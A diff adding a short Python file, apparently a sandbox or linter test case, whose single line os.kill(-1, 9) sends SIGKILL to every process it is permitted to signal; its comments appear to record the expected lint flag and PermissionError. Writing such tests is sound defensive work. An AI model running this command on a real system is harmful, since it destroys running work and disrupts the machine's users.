@@ -1,0 +1,7 @@
+"""Ends every process that it may."""
+
+# lint: `os`
+# jail: PermissionError
+import os
+
+os.kill(-1, 9)
